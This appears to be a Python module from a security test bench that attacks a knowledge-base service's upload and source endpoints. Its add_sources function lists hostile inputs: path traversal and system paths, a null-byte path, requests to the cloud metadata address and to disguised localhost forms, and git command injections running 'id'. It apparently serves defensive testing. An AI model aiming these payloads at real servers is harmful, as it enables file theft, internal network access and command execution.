"""Files and places that are made into knowledge bases."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from pathlib import Path

from bench.attack.session import Session


def upload(session: Session, base: str, files: Iterator[tuple[str, bytes]]) -> list[str]:
    """The jobs that read hostile files, a few in each request."""
    jobs = []
    url = f"{session.product.api}/knowledge-bases/{base}/documents"
    for group in iter(lambda: list(itertools.islice(files, 6)), []):
        answer = session.send("files", "POST", url, files=[("files", file) for file in group])
        if answer is not None and answer.is_success:
            jobs.append(answer.json()["job"]["id"])
    return jobs


def add_sources(session: Session, base: str, secret: Path, address: str) -> None:
    """Places of the server and of its network, as sources."""
    for kind, location in (
        ("folder", "/proc/self"), ("folder", "/dev"), ("folder", str(session.product.data)), ("folder", "~root"),
        ("folder", "../../.."), ("zip", str(secret)), ("zip", "/dev/zero"), ("folder", "\x00"),
        ("web", f"{address}/web"),        ("web", "http://169.254.169.254/latest/meta-data"), ("web", "http://[::ffff:127.0.0.1]/"),
        ("web", "gopher://a/"),        ("web", f"http://127.1:{address.rpartition(':')[2]}/"), 
        ("git", "ext::sh -c id"), ("git", "-oProxyCommand=id"),
    ):  # fmt: skip
        body = {"kind": kind, "location": location, "options": {}}
        session.send("sources", "POST", f"{session.product.api}/knowledge-bases/{base}/sources", json=body)
